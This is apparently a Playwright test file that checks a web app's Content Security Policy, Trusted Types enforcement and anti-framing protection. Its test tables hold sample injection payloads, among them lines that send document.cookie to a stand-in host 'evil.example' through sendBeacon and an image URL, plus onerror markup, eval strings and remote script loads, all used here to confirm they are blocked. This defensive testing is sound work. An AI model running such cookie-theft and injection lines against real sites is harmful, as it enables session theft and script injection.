import { once } from 'node:events';
import { createServer } from 'node:http';
import { getPort } from '@hotdrop/shared-domain/server-port';
import type { Page } from '@playwright/test';
import { expect, test } from '../test.ts';

const elsewhere = 'https://evil.example';

/** Actions that injected code would try, and the directive of the policy that stops each. */
const tries = {
  'base-uri': `const base = document.createElement('base'); base.href = evil; document.head.append(base)`,
  'connect-src': `fetch(evil).catch(() => {}); navigator.sendBeacon(evil, document.cookie)`,
  'font-src': `new FontFace('x', 'url(' + evil + '/x.woff2)').load().catch(() => {})`,
  'form-action': `const form = document.createElement('form'); form.action = evil; document.body.append(form); form.submit()`,
  'frame-src': `const frame = document.createElement('iframe'); frame.src = evil; document.body.append(frame)`,
  'img-src': `new Image().src = evil + '/?stolen=' + document.cookie`,
  'media-src': `new Audio(evil + '/x.mp3').load()`,
  'script-src-elem': `location.href = 'javascript:window.wasRun = true'`,
  'style-src-elem': `const style = document.createElement('style'); style.textContent = 'body { display: none }'; document.head.append(style)`,
};

/** Actions that Trusted Types stop: each of these throws. */
const sinks = {
  'markup with a handler': `document.body.innerHTML = '<img src=x onerror="window.wasRun = true">'`,
  'a handler in an attribute': `document.body.setAttribute('onclick', 'window.wasRun = true')`,
  'a script of words': `const script = document.createElement('script'); script.textContent = 'window.wasRun = true'`,
  'a script of another site': `document.createElement('script').src = evil + '/x.js'`,
  'a script of this site that no release has pinned': `document.createElement('script').src = '/api/v1/auth'`,
  'a script beside those that are pinned': `document.createElement('script').src = '/assets/../api/v1/auth'`,
  'words that are run': `eval('window.wasRun = true')`,
  'words that become a function': `new Function('window.wasRun = true')()`,
  'words that are run later': `setTimeout('window.wasRun = true')`,
  'a plugin of another site': `document.createElement('object').data = evil`,
  'a worker of another site': `new Worker(evil + '/x.js')`,
  'a second policy that allows everything': `trustedTypes.createPolicy('mine', { createHTML: (text) => text })`,
};

const inPage = (page: Page, code: string) =>
  page.evaluate(`(async () => { const evil = '${elsewhere}'; ${code} })()`);

test('blocks injected code from reaching anything', async ({ page, mayComplain }) => {
  mayComplain(/Content Security Policy|TrustedScript|TrustedHTML|evil\.example|policy|ERR_/i);
  const left: string[] = [];
  await page.route(`${elsewhere}/**`, (route) => {
    left.push(route.request().url());
    return route.fulfill({ body: '' });
  });
  await page.goto('/pubg/ranks');
  await page.waitForLoadState('networkidle');
  await page.evaluate(() => {
    const stopped = new Set<string>();
    Object.assign(window, { stopped });
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      stopped.add(effectiveDirective),
    );
  });
  const stopped = () => page.evaluate(() => [...(Reflect.get(window, 'stopped') as Set<string>)].toSorted());
  for (const code of Object.values(tries)) await inPage(page, code);
  await expect.poll(stopped).toEqual(Object.keys(tries));
  expect(left).toEqual([]);

  for (const [what, code] of Object.entries(sinks)) {
    // In a task of the page, because code that Playwright evaluates may use eval.
    const threw = await inPage(
      page,
      `return new Promise((tell) => setTimeout(() => { try { ${code}; tell(false) } catch { tell(true) } }))`,
    );
    expect([what, threw]).toEqual([what, true]);
  }
  expect(await page.evaluate(() => 'wasRun' in window)).toBe(false);
  // Locators would wait for the blocked form's navigation.
  expect(await page.evaluate(() => document.querySelector('main h1')?.textContent)).toBe('Leaderboards');
});

test('refuses to be framed by another site', async ({ page, baseURL, mayComplain }) => {
  mayComplain(/frame|Content Security Policy/i);
  // A real server, because pages that Playwright answers cannot frame pages of this machine.
  const stranger = createServer((_, answer) =>
    answer
      .writeHead(200, { 'content-type': 'text/html' })
      .end(`<title>x</title><iframe src="${baseURL}/pubg"></iframe>`),
  ).listen(0, '127.0.0.1');
  await once(stranger, 'listening');
  const port = getPort(stranger);
  await page.goto(`http://127.0.0.1:${port}/`);
  await expect.poll(() => page.frames()[1]?.url()).toMatch(/^chrome-error/);
  await expect(page.frameLocator('iframe').getByRole('banner')).toHaveCount(0);
  stranger.close().closeAllConnections();
});
